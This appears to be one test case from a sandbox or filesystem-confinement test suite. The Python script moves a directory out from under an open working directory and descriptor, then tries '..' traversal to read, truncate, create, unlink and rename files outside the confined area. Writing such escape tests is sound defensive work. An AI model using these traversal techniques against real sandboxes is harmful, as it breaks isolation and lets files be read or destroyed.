# SPDX-License-Identifier: Apache-2.0
# attack: ".." out of a directory that the program moves, by the working directory and by descriptors
# class: own
# wins: files leak
# needs: write
from kit import *

W = F['work']
E = os.fsencode
tried()
os.makedirs(W + '/a/b/c/d', exist_ok=True)
sc('chdir', E(W + '/a/b/c/d'))
fd = openat(W + '/a/b/c/d', os.O_RDONLY | os.O_DIRECTORY)
sc('rename', E(W + '/a/b/c/d'), E(W + '/d'))
for i in range(1, 7):
    up = '../' * i
    for at in (AT_FDCWD, fd):
        take(up + 'box1/twin.txt', 0, at)
        new = openat(up + 'prey/file.txt', os.O_WRONLY | os.O_TRUNC, at)
        if new >= 0:
            os.close(new)
        sc('mkdirat', at, E(up + 'prey/made%d' % i), 0o755)
        sc('unlinkat', at, E(up + 'prey/other.txt'), 0)
        sc('renameat', at, E(up + 'prey/file.txt'), at, b'taken')
sc('rmdir', E(W + '/d'))
for i in range(1, 7):
    take('../' * i + 'box1/twin.txt')
    openat('../' * i + 'prey/new', os.O_CREAT | os.O_WRONLY)
